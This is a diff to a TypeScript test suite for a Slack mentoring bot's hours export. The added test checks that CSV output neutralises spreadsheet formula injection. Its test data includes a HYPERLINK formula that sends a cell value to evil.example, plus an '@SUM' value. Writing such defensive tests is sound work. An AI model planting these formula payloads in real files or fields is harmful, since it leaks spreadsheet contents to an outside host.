@@ -55,7 +55,7 @@ async function pairingId(mentee: string) {
 }
 
 beforeAll(async () => {
-  h = await startHarness({ admins: [ADMIN], now: '2027-01-10T12:00:00Z' });
+  h = await startHarness({ admins: [ADMIN], now: '2027-01-10T12:00:00Z', logLevel: 'trace' });
 });
 afterAll(async () => {
   await h?.stop();
@@ -240,17 +240,22 @@ describe('session logs, hours and notes', () => {
 
     await h.sender.command({ text: 'hours export 2027-01', user_id: LEE });
     await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('Only program staff'));
+    // Slack profile names are whatever people set: one that is a spreadsheet formula must open as text.
+    const FORMULA = '=HYPERLINK("http://evil.example/?d="&A2,"Open")';
+    await h.database.db.updateTable('people').set({ real_name: FORMULA }).where('slack_id', '=', M1).execute();
+    await h.database.db.updateTable('people').set({ real_name: '@SUM(1+1)' }).where('slack_id', '=', M2).execute();
     await h.sender.command({ text: 'hours export 2027-01', user_id: ADMIN });
     await h.slack.waitForResponse((r) => JSON.stringify(r.body).includes('CSV file'));
     const file = h.slack.files.at(-1);
     expect(file?.filename).toBe('tandem-hours-2027-01.csv');
     const dm = h.slack.conversations.get(file?.channel_id ?? '');
     expect(dm?.is_im && dm.members.includes(ADMIN)).toBe(true);
-    const rows = parse(file?.content?.toString('utf8') ?? '', { columns: true }) as { mentor_id: string; mentee_id: string; hours: string; source: string; sessions: string }[];
+    const rows = parse(file?.content?.toString('utf8') ?? '', { columns: true }) as { mentor_id: string; mentor: string; mentee_id: string; mentee: string; hours: string; source: string; sessions: string }[];
     const total = (mentor: string) => rows.filter((r) => r.mentor_id === mentor).reduce((a, r) => a + Number(r.hours), 0);
     expect(total(ADA)).toBeCloseTo(3, 5);
     expect(rows.find((r) => r.mentee_id === M1)).toMatchObject({ hours: '1.00', source: 'log', sessions: '1' });
-    expect(rows.find((r) => r.mentee_id === M2)).toMatchObject({ hours: '2.00', source: 'standup' });
+    expect(rows.find((r) => r.mentee_id === M2)).toMatchObject({ hours: '2.00', source: 'standup', mentee: "'@SUM(1+1)" });
+    expect(rows.find((r) => r.mentee_id === M1)).toMatchObject({ mentee: `'${FORMULA}`, mentor: 'Ada Mentor' });
 
     await tick('2027-01-18T17:00:00Z');
     const channelCalls = h.slack.calls.filter((c) => c.method.startsWith('chat.') || c.method.startsWith('files.'));
@@ -260,6 +265,9 @@ describe('session logs, hours and notes', () => {
       expect(JSON.stringify(c.args)).not.toContain(SECRET_NOTE);
     }
     expect(h.slack.files.some((f) => (f.content?.toString('utf8') ?? '').includes(SECRET_LOG))).toBe(false);
+    // At trace level Slack's clients log every request: the log holds ids, never what was typed.
+    expect(h.logs.text).toContain('chat.postMessage');
+    for (const secret of [SECRET_LOG, SECRET_NOTE, 'evil.example']) expect(h.logs.text).not.toContain(secret);
   });
 
   test('a session log with bad values gets field errors; another mentor cannot edit it', async () => {
